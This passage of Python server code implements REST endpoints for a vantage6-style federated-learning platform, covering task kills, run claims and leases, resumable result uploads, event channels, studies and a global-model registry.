    @r.route("POST", "/task/<id>/kill")
    def task_kill(req):
        ident = req.identity
        t = db.get("task", int(req.params["id"]))
        if not t:
            raise HTTPError(404, "no such task")
        if ident["client_type"] == IDENTITY_USER:
            _check_user_perm(app, ident, "task", SEND, Scope.COLLABORATION)
        elif ident["client_type"] == IDENTITY_CONTAINER:
            if ident["collaboration_id"] != t["collaboration_id"]:
                raise HTTPError(403, "kill outside own collaboration")
        else:
            raise HTTPError(403, "nodes cannot kill tasks")
        # kill the whole subtree. Mark killed_at DURING the walk — parent
        # before children — so a subtask POSTed concurrently anywhere in
        # the subtree either sees its parent already marked (task_create
        # rejects it) or was inserted before we query that parent's
        # children (we collect it). Marking after a full snapshot would
        # let grand-subtasks created mid-walk escape both checks.
        subtree, frontier = [], [t["id"]]
        db.update("task", t["id"], killed_at=t.get("killed_at") or time.time())
        subtree.append(db.get("task", t["id"]))
        while frontier:
            children = db.all(
                "SELECT * FROM task WHERE parent_id IN "
                f"({','.join('?' * len(frontier))})",
                tuple(frontier),
            )
            for c in children:
                # durable kill marker: a node that misses the kill_task
                # event (offline, or its cursor fell past the event-
                # retention horizon) finds it on GET /task/<id> during
                # reconciliation
                if not c.get("killed_at"):
                    db.update("task", c["id"], killed_at=time.time())
            subtree.extend(children)
            frontier = [c["id"] for c in children]
        for task_row in subtree:
            # runs no node has started yet die server-side right now — no
            # claimant exists to acknowledge the kill (zombie-claim guard
            # in run_claim covers the race with an in-flight claim)
            pending = db.all(
                "SELECT id, organization_id FROM run WHERE task_id=? "
                "AND status=?",
                (task_row["id"], TaskStatus.PENDING.value),
            )
            for run in pending:
                flipped = db.update_where(
                    "run", "id=? AND status=?",
                    (run["id"], TaskStatus.PENDING.value),
                    status=TaskStatus.KILLED.value,
                    log="killed before pickup", finished_at=time.time(),
                )
                if flipped:
                    app.events.emit(
                        EVENT_STATUS_CHANGE,
                        {"run_id": run["id"], "task_id": task_row["id"],
                         "status": TaskStatus.KILLED.value,
                         "organization_id": run["organization_id"],
                         "parent_id": task_row["parent_id"],
                         "job_id": task_row["job_id"]},
                        [collaboration_room(t["collaboration_id"])],
                    )
            app.events.emit(
                EVENT_KILL_TASK,
                {"task_id": task_row["id"],
                 "collaboration_id": t["collaboration_id"]},
                [collaboration_room(t["collaboration_id"])],
            )
        return 200, {"msg": f"kill signal sent for task {t['id']}"}

    @r.route("DELETE", "/task/<id>")
    def task_delete(req):
        ident = _require(req, IDENTITY_USER)
        t = db.get("task", int(req.params["id"]))
        if not t:
            raise HTTPError(404, "no such task")
        if t["init_org_id"] == _user_org(app, ident):
            _check_user_perm(app, ident, "task", DELETE, Scope.ORGANIZATION)
        else:
            _check_user_perm(app, ident, "task", DELETE, Scope.GLOBAL)
        db.delete("run", "task_id=?", (t["id"],))
        db.delete("task", "id=?", (t["id"],))
        return 200, {"msg": "task deleted"}

    # ==================== run / result ====================
    @r.route("GET", "/run")
    def run_list(req):
        ident = req.identity
        conds, params = [], []
        for key in ("task_id", "organization_id", "status"):
            if key in req.query:
                conds.append(f"{key}=?")
                params.append(req.query[key])
        visible = _visible_orgs(app, ident, "run")
        if visible is not None:
            if not visible:
                return 200, _paginate(req, [])  # keep the links shape
            conds.append(
                f"organization_id IN ({','.join('?' * len(visible))})"
            )
            params.extend(visible)
        # slim=1: status/timestamps only — wait loops re-read runs on
        # every status-change wakeup, and shipping the (potentially
        # megabytes of) sealed result blobs on each poll would turn an
        # event-driven wait into an O(N²)-bytes protocol
        cols = ("id, task_id, organization_id, status, assigned_at, "
                "started_at, finished_at"
                if req.query.get("slim") else "*")
        out = _paginate_sql(req, db, f"SELECT {cols} FROM run", conds,
                            params)
        out["data"] = _runs_out(
            out["data"], req,
            strip_input=req.query.get("include") != "input",
        )
        return 200, out

    @r.route("GET", "/run/<id>")
    def run_get(req):
        ident = req.identity
        run = db.get("run", int(req.params["id"]))
        if not run:
            raise HTTPError(404, "no such run")
        visible = _visible_orgs(app, ident, "run")
        if visible is not None and run["organization_id"] not in visible:
            raise HTTPError(403, "run not visible to you")
        # like run_list: the sealed `input` blob (which embeds the full
        # global weights in FL rounds) ships only on request — the
        # proxy's incremental result fetch hits this endpoint once per
        # arriving result and only needs `result`
        return 200, _run_out(
            run, req, strip_input=req.query.get("include") != "input"
        )

    # --- chunked / resumable payload transfer (docs/WIRE_FORMAT.md) ------
    # Download: GET /run/<id>/result serves the *canonical stored blob*
    # raw, honouring byte ranges, so a client can resume an interrupted
    # fetch at the last byte it holds instead of restarting. Upload:
    # POST /run/<id>/result/chunk appends into a blob_upload session
    # keyed by the client's Idempotency-Key; PATCH /run/<id> with
    # {"result_chunks": <key>} promotes the assembled blob to the run's
    # result. Chunks are acknowledged contiguously (received counter),
    # so a replayed chunk dedups and a gap is a loud 409.

    @r.route("GET", "/run/<id>/result")
    def run_result_blob(req):
        """Raw result blob with byte-range support (resumable download).

        Responds 206 + Content-Range to ``Range: bytes=a-b`` requests
        (b inclusive, optional), 200 with the full blob otherwise.
        ``X-V6-Blob-Len`` always carries the total length and
        ``X-V6-Blob-Enc`` whether the blob is an encryption envelope —
        enough for the client to rebuild the negotiated wire form."""
        ident = req.identity
        run = db.one(
            "SELECT id, task_id, organization_id, status FROM run "
            "WHERE id=?", (int(req.params["id"]),),
        )
        if not run:
            raise HTTPError(404, "no such run")
        visible = _visible_orgs(app, ident, "run")
        if visible is not None and run["organization_id"] not in visible:
            raise HTTPError(403, "run not visible to you")
        probe = db.blob_range("run", "result", run["id"], 0, 0)
        if probe is None:
            raise HTTPError(404, "run has no stored result")
        total = probe[1]
        enc = _task_encrypted({run["task_id"]}).get(run["task_id"], False)
        start, end = 0, total - 1
        rng = req.headers.get("range")
        if rng:
            m = re.match(r"bytes=(\d+)-(\d*)$", rng.strip())
            if not m:
                raise HTTPError(400, f"unsupported Range: {rng!r}")
            start = int(m.group(1))
            if m.group(2):
                end = min(int(m.group(2)), total - 1)
            if start >= total or start > end:
                raise HTTPError(416, f"range {rng!r} outside blob of "
                                     f"{total} bytes")
        got = db.blob_range("run", "result", run["id"], start,
                            end - start + 1)
        chunk = got[0] if got else b""
        headers = {
            "X-V6-Blob-Len": str(total),
            "X-V6-Blob-Enc": "1" if enc else "0",
            "Accept-Ranges": "bytes",
            "X-V6-Bin": "1",
        }
        if rng:
            headers["Content-Range"] = f"bytes {start}-{end}/{total}"
            return Response(206, chunk, headers=headers)
        return Response(200, chunk, headers=headers)

    @r.route("POST", "/run/<id>/result/chunk")
    def run_result_chunk(req):
        """Append one chunk to a resumable result upload session.

        Headers: ``Idempotency-Key`` (session id), ``X-V6-Chunk-Offset``
        (byte offset of this chunk), ``X-V6-Blob-Total`` (declared final
        length). Body: raw octet-stream bytes. A chunk at an offset
        already acknowledged dedups (lost-response replay); a chunk past
        the contiguous frontier is a 409 gap. The session completes via
        ``PATCH /run/<id>`` with ``{"result_chunks": <key>}``."""
        ident = _require(req, IDENTITY_NODE)
        run = db.one(
            "SELECT id, task_id, organization_id, status FROM run "
            "WHERE id=?", (int(req.params["id"]),),
        )
        if not run:
            raise HTTPError(404, "no such run")
        if run["organization_id"] != ident["organization_id"]:
            raise HTTPError(403, "run belongs to another organization")
        key = req.headers.get("idempotency-key")
        if not key:
            raise HTTPError(400, "Idempotency-Key header required")
        try:
            offset = int(req.headers.get("x-v6-chunk-offset", ""))
            total = int(req.headers.get("x-v6-blob-total", ""))
        except ValueError:
            raise HTTPError(400, "X-V6-Chunk-Offset and X-V6-Blob-Total "
                                 "headers required")
        chunk = req.body if isinstance(req.body, (bytes, bytearray)) else b""
        if offset < 0 or total <= 0 or offset + len(chunk) > total:
            raise HTTPError(400, "chunk outside declared blob bounds")
        with db.transaction():
            sess = db.one(
                "SELECT total, received FROM blob_upload WHERE key=?",
                (key,),
            )
            if sess is None:
                if offset != 0:
                    raise HTTPError(  # noqa: V6L014 - the Idempotency-Key is a client-chosen upload-session id, not a secret; echoing it back is the resume protocol
                        409, f"unknown session {key!r} at offset {offset}; "
                             f"restart from 0"
                    )
                # opportunistic prune: sessions abandoned > 1h ago
                db.delete("blob_upload", "created_at < ?",
                          (time.time() - 3600.0,))
                db.insert("blob_upload", key=key, run_id=run["id"],
                          total=total, received=len(chunk),
                          data=sqlite3.Binary(bytes(chunk)),
                          created_at=time.time())
                received = len(chunk)
            elif sess["total"] != total:
                raise HTTPError(409, "session declared a different total")
            elif offset < sess["received"]:
                # replayed chunk (response was lost): already applied
                received = sess["received"]
            elif offset > sess["received"]:
                raise HTTPError(  # noqa: V6L014 - byte counters of an upload session looked up by the non-secret Idempotency-Key
                    409, f"gap: session has {sess['received']} bytes, "
                         f"chunk starts at {offset}"
                )
            else:
                # the outer CAST keeps the stored value's storage class
                # BLOB: on older sqlite (3.34) plain ``blob || blob``
                # yields TEXT, which breaks the UTF-8-decoding SELECT at
                # finalize for any non-ASCII payload
                db.execute(
                    "UPDATE blob_upload SET "
                    "data = CAST(data || CAST(? AS BLOB) AS BLOB), "
                    "received = received + ? WHERE key=?",
                    (sqlite3.Binary(bytes(chunk)), len(chunk), key),
                )
                received = sess["received"] + len(chunk)
        app.metrics.counter(
            "v6_result_chunks_total", "resumable upload chunks accepted"
        ).inc()
        return 200, {"received": received, "total": total,
                     "complete": received == total}

    @r.route("POST", "/run/<id>/claim")
    def run_claim(req):
        """Node claims a pending run in one round trip: returns the run
        (with input), its task, and a container token, and marks the run
        INITIALIZING. Collapses GET /run + GET /task + POST
        /token/container + PATCH /run — four hops the reference's
        docker flow pays separately — into one (round-path latency)."""
        ident = _require(req, IDENTITY_NODE)
        run = db.get("run", int(req.params["id"]))
        if not run:
            raise HTTPError(404, "no such run")
        if run["organization_id"] != ident["organization_id"]:
            raise HTTPError(403, "run belongs to another organization")
        task_row = db.get("task", run["task_id"])
        if task_row.get("killed_at"):
            # task was killed while this run sat unclaimed — never hand
            # killed work to a node (it would execute a dead task)
            db.update_where(
                "run", "id=? AND status=?",
                (run["id"], TaskStatus.PENDING.value),
                status=TaskStatus.KILLED.value, log="killed before pickup",
                finished_at=time.time(),
            )
            raise HTTPError(409, "task was killed")
        # atomic claim: exactly one caller flips pending → initializing.
        # The claim starts the run's lease; the node's heartbeat renews
        # it, and the lease sweeper requeues the run if renewals stop
        # (node crash) — see docs/RESILIENCE.md.
        lease = time.time() + app.lease_ttl
        claimed = db.update_where(
            "run", "id=? AND status=?",
            (run["id"], TaskStatus.PENDING.value),
            status=TaskStatus.INITIALIZING.value,
            lease_expires_at=lease,
        )
        if claimed != 1:
            raise HTTPError(409, f"run already {db.get('run', run['id'])['status']}")
        run["status"] = TaskStatus.INITIALIZING.value
        run["lease_expires_at"] = lease
        task = db.get("task", run["task_id"])
        app.metrics.counter(
            "v6_run_claims_total", "runs claimed by nodes"
        ).inc()
        # continue the task's trace across the pull-based hop: parent
        # the claim span under the recorded task.create span and hand
        # the node the resulting context — the node's own spans (input
        # decode, execute, result upload) become children of the claim
        created = db.one(
            "SELECT trace_id, span_id FROM span WHERE task_id=? AND "
            "name='task.create' ORDER BY id LIMIT 1", (run["task_id"],),
        )
        trace_out = None
        if created:
            claim_ctx = telemetry.child_span(telemetry.TraceContext(
                created["trace_id"], created["span_id"]))
            _record_span({
                "trace_id": claim_ctx.trace_id,
                "span_id": claim_ctx.span_id,
                "parent_id": claim_ctx.parent_id, "name": "run.claim",
                "component": "server", "task_id": run["task_id"],
                "run_id": run["id"], "start": time.time(),
                "duration_ms": None, "status": "ok",
                "node_id": ident["sub"],
            })
            trace_out = telemetry.format_trace(claim_ctx)
        app.events.emit(
            EVENT_STATUS_CHANGE,
            {"run_id": run["id"], "task_id": run["task_id"],
             "status": run["status"],
             "organization_id": run["organization_id"],
             "parent_id": task["parent_id"], "job_id": task["job_id"]},
            [collaboration_room(task["collaboration_id"])],
        )
        return 200, {
            "run": _run_out(run, req, strip_input=False),
            "task": _task_view(app, task),
            "container_token": app.container_token(
                ident, task, task["image"]
            ),
            "trace": trace_out,
        }

    @r.route("PATCH", "/run/<id>")
    def run_patch(req):
        ident = _require(req, IDENTITY_NODE)
        run = db.get("run", int(req.params["id"]))
        if not run:
            raise HTTPError(404, "no such run")
        if run["organization_id"] != ident["organization_id"]:
            raise HTTPError(403, "run belongs to another organization")
        body = req.body or {}
        # spans ride result/status PATCHes; ingest before any early
        # return so an idempotent re-PATCH still delivers them (the
        # unique span_id dedups re-sent batches)
        _ingest_spans(body.get("spans"))
        # attempt fencing: the lease sweeper bumps run.attempt on every
        # requeue, and nodes echo the attempt they claimed. A PATCH
        # carrying an older attempt is a ghost of a superseded claim —
        # typically a late result racing the requeued run's new attempt
        # — and must be rejected, or the same run's result could be
        # delivered (and aggregated) twice. Nodes predating the field
        # send no attempt and keep the old last-writer behavior.
        sent_attempt = body.get("attempt")
        if sent_attempt is not None \
                and int(sent_attempt) != (run.get("attempt") or 0):
            app.metrics.counter(
                "v6_run_stale_result_total",
                "run PATCHes rejected for a superseded attempt",
            ).inc()
            raise HTTPError(
                409, f"run {run['id']} attempt {sent_attempt} was "
                     f"superseded (current attempt "
                     f"{run.get('attempt') or 0}); result discarded"
            )
        chunk_key = body.get("result_chunks")
        if chunk_key:
            # finalize a resumable upload: promote the assembled session
            # blob (already canonical) to this PATCH's result field
            sess = db.one(
                "SELECT total, received, data FROM blob_upload "
                "WHERE key=? AND run_id=?", (chunk_key, run["id"]),
            )
            if sess is None:
                if TaskStatus.has_finished(run["status"]) \
                        and run.get("result") is not None:
                    # the original finalize landed but its response was
                    # lost — the retry must succeed idempotently
                    return 200, _run_out(run, req)
                raise HTTPError(409, f"unknown upload session {chunk_key!r}")
            if sess["received"] != sess["total"]:
                raise HTTPError(
                    409, f"upload incomplete: {sess['received']}/"
                         f"{sess['total']} bytes"
                )
            body = dict(body)
            body["result"] = bytes(sess["data"])
        fields = {
            k: body[k] for k in ("status", "result", "log",
                                 "started_at", "finished_at")
            if k in body
        }
        if fields.get("result") is not None:
            # normalize the wire form (bytes leaf or legacy string) to
            # the canonical stored blob BEFORE the idempotent-re-PATCH
            # equality check below, so a retried PATCH compares blob to
            # blob regardless of which codec each attempt used
            fields["result"] = payload_to_blob(
                fields["result"],
                _task_encrypted({run["task_id"]}).get(run["task_id"], False),
            )
        # a finished run is immutable in EVERY field — its stored
        # (encrypted) result/log must survive any later node activity.
        # Exception: an identical re-PATCH returns success, because the
        # node daemon retries PATCHes whose response was lost in flight
        # and relies on their idempotence.
        if TaskStatus.has_finished(run["status"]) and fields:
            if all(run.get(k) == v for k, v in fields.items()):
                return 200, _run_out(run, req)
            raise HTTPError(
                409, f"run is {run['status']!r} and can no longer change"
            )
        if "status" in fields and fields["status"] != run["status"]:
            new = fields["status"]
            try:
                TaskStatus(new)
            except ValueError:
                raise HTTPError(400, f"unknown status: {new!r}")
            # lifecycle only moves forward
            allowed = _RUN_TRANSITIONS.get(run["status"], set())
            if new not in allowed:
                raise HTTPError(
                    409, f"illegal status transition "
                         f"{run['status']!r} → {new!r}"
                )
            if new in (TaskStatus.FAILED.value, TaskStatus.CRASHED.value):
                # a coordinator of a killed task dies of the kill (its
                # subtask calls start failing) — record that as killed,
                # not as an algorithm failure
                task_kill_check = db.get("task", run["task_id"])
                if task_kill_check.get("killed_at"):
                    fields["status"] = TaskStatus.KILLED.value
        if run.get("lease_expires_at") is not None:
            # any node activity on a leased run renews the lease; a
            # terminal status retires it (the sweeper must never touch
            # finished runs)
            new_status = fields.get("status", run["status"])
            if TaskStatus.has_finished(new_status):
                fields["lease_expires_at"] = None
            else:
                fields["lease_expires_at"] = time.time() + app.lease_ttl
        if fields:
            db.update("run", run["id"], **fields)
        if chunk_key:
            db.delete("blob_upload", "key=?", (chunk_key,))
        if fields.get("result") is not None:
            app.metrics.counter(
                "v6_results_uploaded_total", "run results stored"
            ).inc()
            _server_span("result.store", req, task_id=run["task_id"],
                         run_id=run["id"])
        run = db.get("run", run["id"])
        task = db.get("task", run["task_id"])
        if "status" in fields:
            app.events.emit(
                EVENT_STATUS_CHANGE,
                {
                    "run_id": run["id"], "task_id": run["task_id"],
                    "status": run["status"],
                    "organization_id": run["organization_id"],
                    "parent_id": task["parent_id"],
                    "job_id": task["job_id"],
                },
                [collaboration_room(task["collaboration_id"])],
            )
        return 200, _run_out(run, req)

    @r.route("GET", "/result")
    def result_list(req):
        # convenience view over finished runs (reference result resource)
        req.query.setdefault("include", "")
        _, resp = run_list(req)
        data = [
            {
                "run_id": x["id"], "task_id": x["task_id"],
                "organization_id": x["organization_id"],
                "status": x["status"], "result": x.get("result"),
                "log": x.get("log"),
            }
            for x in resp["data"]
        ]
        return 200, {"data": data}

    # ============ events (long-poll + websocket channels) ============
    def _event_rooms(ident) -> list[str]:
        """Rooms the identity may listen in; refreshes node liveness."""
        if ident["client_type"] == IDENTITY_NODE:
            db.update("node", ident["sub"], last_seen=time.time(),
                      status="online")
            return [collaboration_room(ident["collaboration_id"])]
        if ident["client_type"] == IDENTITY_CONTAINER:
            return [collaboration_room(ident["collaboration_id"])]
        if app.permissions.allowed(ident["sub"], "event",
                                   Operation.RECEIVE, Scope.GLOBAL):
            all_collabs = db.all("SELECT id FROM collaboration")
            return [collaboration_room(c["id"]) for c in all_collabs]
        org_id = _user_org(app, ident)
        collabs = db.all(
            "SELECT collaboration_id FROM member WHERE organization_id=?",
            (org_id,),
        ) if org_id else []
        return [collaboration_room(c["collaboration_id"]) for c in collabs]

    def _event_batch(events: list[dict], since: int, scanned: int) -> dict:
        return {
            "data": events,
            # safe cursor: everything ≤ scanned matching the caller's
            # rooms is in `data`, so the cursor may advance past foreign-
            # room traffic instead of re-scanning it forever
            "last_id": max(since, scanned, 0),
            # broker's true high-water mark: lets clients detect a
            # restarted broker (ids regressed) and rewind their cursor
            "bus_last_id": app.events.last_id,
            # retention horizon: a cursor behind (oldest_id - 1) has
            # missed pruned events and must reconcile, not page forward
            "oldest_id": app.events.oldest_id,
        }

    @r.route("GET", "/event")
    def event_poll(req):
        rooms = _event_rooms(req.identity)
        since = int(req.query.get("since", 0))
        timeout = min(float(req.query.get("timeout", 25.0)), 55.0)
        events, scanned = app.events.poll(rooms, since=since, timeout=timeout)
        return 200, _event_batch(events, since, scanned)

    def ws_events(req, conn):
        """Push channel over WebSocket (reference: Socket.IO rooms).
        Streams the same batch payloads as GET /event; an empty batch
        every poll window doubles as the keepalive heartbeat. The JWT is
        re-validated every window — long-poll re-authenticates per
        request, and a held-open socket must not outlive its token."""
        from vantage6_trn.common import jwt as v6jwt

        token = req.headers.get("authorization", "")[7:]
        since = int(req.query.get("since", 0))
        while not app.events.closed:
            try:
                v6jwt.decode(token, app.jwt_secret)
            except v6jwt.JWTError:
                return  # token expired mid-connection: hang up
            rooms = _event_rooms(req.identity)  # membership may change
            events, scanned = app.events.poll(rooms, since=since,
                                              timeout=15.0)
            if app.events.closed:
                return
            batch = _event_batch(events, since, scanned)
            conn.send_json(batch)  # raises WSClosed when the peer left
            since = batch["last_id"]

    app.http.ws_routes["/ws"] = ws_events

    # ==================== port (vpn peer registry) ====================
    @r.route("POST", "/port")
    def port_create(req):
        ident = _require(req, IDENTITY_NODE)
        body = req.body or {}
        run = db.get("run", int(body.get("run_id", 0)))
        if not run:
            raise HTTPError(404, "no such run")
        if run["organization_id"] != ident["organization_id"]:
            raise HTTPError(403, "run belongs to another organization")
        pid = db.insert("port", run_id=run["id"], port=int(body["port"]),
                        label=body.get("label"),
                        address=body.get("address"),
                        enc_key=body.get("enc_key"),
                        signature=body.get("signature"))
        return 201, db.get("port", pid)

    @r.route("GET", "/port")
    def port_list(req):
        conds, params = [], []
        for key in ("run_id", "label"):
            if key in req.query:
                conds.append(f"p.{key}=?")
                params.append(req.query[key])
        visible = _visible_orgs(app, req.identity, "port")
        if visible is not None:
            conds.append(
                f"r.organization_id IN ({','.join('?' * len(visible)) or 'NULL'})"
            )
            params.extend(visible)
        sql = ("SELECT p.* FROM port p JOIN run r ON r.id = p.run_id"
               + (" WHERE " + " AND ".join(conds) if conds else ""))
        return 200, {"data": db.all(sql + " ORDER BY p.id", params)}

    @r.route("DELETE", "/port")
    def port_delete(req):
        ident = _require(req, IDENTITY_NODE)
        run_id = req.query.get("run_id")
        if not run_id:
            raise HTTPError(400, "run_id query param required")
        n = db.delete(
            "port",
            "run_id=? AND run_id IN (SELECT id FROM run WHERE organization_id=?)",
            (run_id, ident["organization_id"]),
        )
        return 200, {"msg": f"deleted {n} ports"}

    # ==================== study ====================
    # Reference v4.x: a Study is a named subset of a collaboration's
    # organizations; tasks can target a study instead of listing orgs
    # (SURVEY.md §2.1 ORM row, [uncertain] — modelled to that shape).
    def _visible_collabs(ident) -> set[int] | None:
        """None = unrestricted; else collaborations the caller can see."""
        visible = _visible_orgs(app, ident, "collaboration")
        if visible is None:
            return None
        if not visible:
            return set()
        return {
            m["collaboration_id"] for m in db.all(
                "SELECT DISTINCT collaboration_id FROM member WHERE "
                f"organization_id IN ({','.join('?' * len(visible))})",
                tuple(visible),
            )
        }

    def _require_collab_editor(ident, collab_id: int) -> None:
        """collaboration|edit scoped to the caller's own collaborations
        (GLOBAL scope may touch any) — mirrors task_create's membership
        rule."""
        _check_user_perm(app, ident, "collaboration", EDIT,
                         Scope.COLLABORATION)
        if app.permissions.allowed(ident["sub"], "collaboration", EDIT,
                                   Scope.GLOBAL):
            return
        org_id = _user_org(app, ident)
        member = db.one(
            "SELECT 1 FROM member WHERE collaboration_id=? AND "
            "organization_id=?", (collab_id, org_id),
        )
        if not member:
            raise HTTPError(403, "not a member of that collaboration")

    def _study_view(s: dict) -> dict:
        s["organization_ids"] = [
            m["organization_id"] for m in db.all(
                "SELECT organization_id FROM study_member WHERE study_id=?",
                (s["id"],),
            )
        ]
        return s

    @r.route("GET", "/study")
    def study_list(req):
        conds, params = [], []
        if "collaboration_id" in req.query:
            conds.append("collaboration_id=?")
            params.append(req.query["collaboration_id"])
        sql = "SELECT * FROM study"
        if conds:
            sql += " WHERE " + " AND ".join(conds)
        rows = db.all(sql + " ORDER BY id", params)
        collabs = _visible_collabs(req.identity)
        if collabs is not None:
            rows = [s for s in rows if s["collaboration_id"] in collabs]
        return 200, _paginate(req, [_study_view(s) for s in rows])

    @r.route("POST", "/study")
    def study_create(req):
        ident = _require(req, IDENTITY_USER)
        body = req.body or {}
        collab_id = body.get("collaboration_id")
        if not db.get("collaboration", collab_id or 0):
            raise HTTPError(400, "collaboration_id required/unknown")
        _require_collab_editor(ident, collab_id)
        member_ids = {
            m["organization_id"] for m in db.all(
                "SELECT organization_id FROM member WHERE collaboration_id=?",
                (collab_id,),
            )
        }
        org_ids = sorted({int(o) for o in body.get("organization_ids") or []})
        if not body.get("name") or not org_ids:
            raise HTTPError(400, "name and organization_ids required")
        bad = set(org_ids) - member_ids
        if bad:
            raise HTTPError(400, f"orgs not in collaboration: {sorted(bad)}")
        sid = db.insert("study", name=body["name"],
                        collaboration_id=collab_id)
        try:
            for oid in org_ids:
                db.insert("study_member", study_id=sid, organization_id=oid)
        except Exception:
            db.delete("study_member", "study_id=?", (sid,))
            db.delete("study", "id=?", (sid,))
            raise HTTPError(400, "invalid organization_ids")
        return 201, _study_view(db.get("study", sid))

    @r.route("GET", "/study/<id>")
    def study_get(req):
        s = db.get("study", int(req.params["id"]))
        if not s:
            raise HTTPError(404, "no such study")
        collabs = _visible_collabs(req.identity)
        if collabs is not None and s["collaboration_id"] not in collabs:
            raise HTTPError(403, "study not visible to you")
        return 200, _study_view(s)

    @r.route("DELETE", "/study/<id>")
    def study_delete(req):
        ident = _require(req, IDENTITY_USER)
        s = db.get("study", int(req.params["id"]))
        if not s:
            raise HTTPError(404, "no such study")
        _require_collab_editor(ident, s["collaboration_id"])
        db.delete("study_member", "study_id=?", (s["id"],))
        db.delete("study", "id=?", (s["id"],))
        return 200, {"msg": "study deleted"}

    # ==================== algorithm store links ====================
    @r.route("GET", "/algorithm_store")
    def store_list(req):
        rows = db.all("SELECT * FROM algorithm_store ORDER BY id")
        collabs = _visible_collabs(req.identity)
        if collabs is not None:
            # rows without a collaboration are server-wide stores,
            # visible to any authenticated identity
            rows = [s for s in rows
                    if s["collaboration_id"] is None
                    or s["collaboration_id"] in collabs]
        return 200, {"data": rows}

    @r.route("POST", "/algorithm_store")
    def store_create(req):
        ident = _require(req, IDENTITY_USER)
        _check_user_perm(app, ident, "algorithm_store", CREATE, Scope.GLOBAL)
        body = req.body or {}
        sid = db.insert("algorithm_store", name=body.get("name", "store"),
                        url=body.get("url", ""),
                        collaboration_id=body.get("collaboration_id"))
        return 201, db.get("algorithm_store", sid)

    # ==================== global model registry ====================
    # Versioned aggregated weights per collaboration: the round engines
    # publish on round close (common/rounds.ModelPublisher) and serving
    # nodes hot-swap between decode iterations (node/serve.py). The
    # latest-fetch serves a V6BN delta frame when the caller already
    # holds the delta's base version, else the dense payload.

    def _model_collab_guard(ident, collab_id: int) -> None:
        collabs = _visible_collabs(ident)
        if collabs is not None and collab_id not in collabs:
            raise HTTPError(403, "collaboration not visible to you")

    @r.route("POST", "/model")
    def model_publish(req):
        ident = _require(req, IDENTITY_USER, IDENTITY_CONTAINER)
        body = req.body or {}
        try:
            collab_id = int(body["collaboration_id"])
        except (KeyError, TypeError, ValueError):
            raise HTTPError(400, "collaboration_id required")
        if not db.get("collaboration", collab_id):
            raise HTTPError(404, "no such collaboration")
        if ident["client_type"] == IDENTITY_USER:
            # publishing is a round-driver act: same bar as creating the
            # round's tasks
            _check_user_perm(app, ident, "task", CREATE)
        _model_collab_guard(ident, collab_id)
        try:
            dense = base64.b64decode(body["data_b64"], validate=True)
        except (KeyError, TypeError, ValueError):
            raise HTTPError(400, "data_b64 (base64 V6BN payload) required")
        delta = None
        base_version = body.get("base_version")
        if body.get("delta_b64"):
            try:
                delta = base64.b64decode(body["delta_b64"], validate=True)
                base_version = int(base_version)
            except (TypeError, ValueError):
                raise HTTPError(400, "delta_b64 needs valid base64 and an "
                                     "integer base_version")
        with db.transaction():
            row = db.one(
                "SELECT MAX(version) AS v FROM global_model "
                "WHERE collaboration_id=?", (collab_id,),
            )
            version = int(row["v"] or 0) + 1
            mid = db.insert(
                "global_model", collaboration_id=collab_id,
                version=version, round=body.get("round"),
                data=sqlite3.Binary(dense),
                delta=sqlite3.Binary(delta) if delta is not None else None,
                base_version=base_version if delta is not None else None,
                meta=json.dumps(body.get("meta") or {}),
                created_at=time.time(),
            )
        app.metrics.counter(
            "v6_model_publish_total", "global-model versions published"
        ).inc()
        app.events.emit(
            EVENT_MODEL_PUBLISHED,
            {"collaboration_id": collab_id, "version": version,
             "round": body.get("round")},
            [collaboration_room(collab_id)],
        )
        return 201, _model_view(db.get("global_model", mid))

    def _model_view(row) -> dict:
        return {
            "id": row["id"], "collaboration_id": row["collaboration_id"],
            "version": row["version"], "round": row["round"],
            "base_version": row["base_version"],
            "bytes": len(row["data"]),
            "delta_bytes": len(row["delta"]) if row["delta"] else 0,
            "meta": json.loads(row["meta"] or "{}"),
            "created_at": row["created_at"],
        }

    @r.route("GET", "/model")
    def model_list(req):
        collabs = _visible_collabs(req.identity)
        conds, params = [], []
        if "collaboration_id" in req.query:
            conds.append("collaboration_id=?")
            params.append(int(req.query["collaboration_id"]))
        sql = ("SELECT id, collaboration_id, version, round, "
               "base_version, length(data) AS bytes, "
               "length(delta) AS delta_bytes, meta, created_at "
               "FROM global_model")
        if conds:
            sql += " WHERE " + " AND ".join(conds)
        rows = db.all(sql + " ORDER BY collaboration_id, version", params)
        if collabs is not None:
            rows = [m for m in rows if m["collaboration_id"] in collabs]
        out = [{**dict(m), "meta": json.loads(m["meta"] or "{}"),
                "delta_bytes": m["delta_bytes"] or 0} for m in rows]
        return 200, _paginate(req, out)

    @r.route("GET", "/model/latest")
    def model_latest(req):
        """Raw latest-model blob for a collaboration.

        ``?have=<v>`` names the version the caller already holds: when
        the latest row's delta frame is based exactly on ``have``, the
        (much smaller) delta ships instead of the dense payload — the
        V6BN base registry on the caller resolves it
        (docs/WIRE_FORMAT.md). A caller already at the latest version
        gets 204 and no body. Headers carry the protocol:
        ``X-V6-Model-Version``/``-Round``, ``X-V6-Model-Delta-Base``
        (delta form only), ``X-V6-Blob-Len``, ``X-V6-Bin``."""
        ident = req.identity
        try:
            collab_id = int(req.query["collaboration_id"])
        except (KeyError, TypeError, ValueError):
            raise HTTPError(400, "collaboration_id query param required")
        _require(req, IDENTITY_USER, IDENTITY_NODE, IDENTITY_CONTAINER)
        _model_collab_guard(ident, collab_id)
        row = db.one(
            "SELECT * FROM global_model WHERE collaboration_id=? "
            "ORDER BY version DESC LIMIT 1", (collab_id,),
        )
        if row is None:
            raise HTTPError(404, "no model published for collaboration")
        have = None
        if req.query.get("have") not in (None, ""):
            try:
                have = int(req.query["have"])
            except ValueError:
                raise HTTPError(400, "have must be an integer version")
        headers = {
            "X-V6-Model-Version": str(row["version"]),
            "X-V6-Model-Round": str(row["round"] or 0),
            "X-V6-Bin": "1",
        }
        if have is not None and have >= row["version"]:
            app.metrics.counter(
                "v6_model_fetch_total", "global-model fetches by form"
            ).inc(form="current")
            headers["X-V6-Blob-Len"] = "0"
            return Response(204, b"", headers=headers)
        if (row["delta"] is not None and have is not None
                and row["base_version"] == have):
            blob, form = bytes(row["delta"]), "delta"
            headers["X-V6-Model-Delta-Base"] = str(row["base_version"])
        else:
            blob, form = bytes(row["data"]), "dense"
        app.metrics.counter(
            "v6_model_fetch_total", "global-model fetches by form"
        ).inc(form=form)
        headers["X-V6-Blob-Len"] = str(len(blob))
        return Response(200, blob, headers=headers)
