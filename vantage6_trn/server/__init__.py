"""L2 central server: REST API + event broker + sqlite domain model.

Reference counterpart: ``vantage6-server/vantage6/server/`` (SURVEY.md
